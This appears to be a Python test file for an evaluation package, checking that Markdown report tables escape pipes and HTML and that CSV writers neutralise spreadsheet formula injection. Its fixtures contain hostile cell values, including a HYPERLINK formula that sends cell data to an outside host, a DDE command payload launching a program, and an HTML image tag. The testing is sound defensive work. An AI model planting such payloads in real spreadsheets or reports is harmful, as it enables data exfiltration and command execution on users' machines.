"""Names from datasets and checkpoint folders cannot rewrite a report: Markdown cells are escaped,
CSV cells a spreadsheet would run as formulas are neutralised (OWASP), and both still score."""

from __future__ import annotations

import csv

from affect_llm.evaluation.predictions import write_gt_csv, write_prediction_csv
from affect_llm.evaluation.report import markdown_table
from affect_llm.evaluation.scoring import score_files


def _cells(line: str) -> list[str]:
    """The cells of a Markdown table row, as a renderer splits them (an escaped `\\|` stays)."""
    cells, current, escaped = [], "", False
    for ch in line.strip().strip("|"):
        if ch == "|" and not escaped:
            cells.append(current)
            current = ""
        else:
            current += ch
        escaped = ch == "\\"
    return [*cells, current]


def test_a_checkpoint_name_with_a_pipe_or_html_keeps_scores_in_their_columns():
    rows = {"ckpt|99.00 <img src=http://x/y.png>": {"a": 0.5, "b": 0.25}, "plain": {"a": 1.0}}
    table = markdown_table([("a", "A"), ("b", "B")], rows)
    lines = table.splitlines()
    assert all(len(_cells(line)) == 3 for line in lines), table
    assert _cells(lines[2])[1:] == [" 0.50 ", " 0.25 "]
    assert "<img" not in table and "&lt;img" in table


def test_formula_cells_are_neutralised_and_the_files_still_score(tmp_path):
    names = {
        '=HYPERLINK("http://x/?"&A1,"open")': "happy",
        "+cmd|' /C calc'!A0": "sad",
        "-3g5yACwYnA_10": "happy",
        "@SUM(1)": "angry",
        "plain": "neutral",
    }
    pred = write_prediction_csv(tmp_path / "predictions.csv", "hitrate", names)
    gt = write_gt_csv(tmp_path / "gt.csv", "hitrate", names)
    valence = write_gt_csv(tmp_path / "valence.csv", "sentiment", {"-a": -1.5, "b": 2.0})
    for path in (pred, gt, valence):
        with open(path, newline="", encoding="utf-8") as handle:
            for row in list(csv.reader(handle))[1:]:
                for cell in row:
                    assert not cell.startswith(("=", "+", "@")) and (
                        not cell.startswith("-") or cell == "-1.5"
                    ), cell
    with open(valence, newline="", encoding="utf-8") as handle:
        assert list(csv.reader(handle))[1] == ["'-a", "-1.5"]  # numbers are kept as numbers
    scored = score_files("hitrate", gt, pred)
    assert scored.missing == []  # every name still matches its prediction
    assert scored.scores == {"hit_rate": 1.0, "samples": 5}
